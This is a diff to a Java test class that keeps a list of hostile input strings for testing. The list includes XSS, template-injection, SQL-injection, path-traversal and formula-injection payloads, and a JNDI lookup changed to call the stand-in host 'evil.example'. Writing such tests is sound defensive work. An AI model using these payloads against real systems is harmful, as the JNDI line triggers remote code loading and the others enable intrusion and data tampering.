@@ -11,7 +11,7 @@ final class TextCases {
     private static final List<String> DATA = List.of(
             "<script>alert(1)</script>", "\\\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
             "javascript:alert(1)", "data:text/html,<b>x</b>", "{{7*7}}", "${7*7}", "#{7*7}",
-            "${jndi:ldap://127.0.0.1/a}",
+            "${jndi:ldap://evil.example/a}",
             "__proto__", "constructor.prototype", "toString", "length", "=1+1", "+1", "-1", "@SUM(A1)",
             "'; DROP TABLE x",
             "\\\" OR 1=1 --", "attribute_exists(pk)", ":v", "#n", "../../../etc/hosts", "s3://bucket/key", "/leading",
@@ -49,9 +49,9 @@ final class TextCases {
         }
     }
 
-    /// Neither blank nor too long, and no address, which is masked in ids.
+    /// Neither blank nor too long.
     private static boolean isId(String text) {
-        return text.length() < 200 && !text.equals("\u2028") && !text.equals("\\u2028") && !text.contains("127.0.0.1");
+        return text.length() < 200 && !text.equals("\u2028") && !text.equals("\\u2028");
     }
 
     private static String values(String text) {
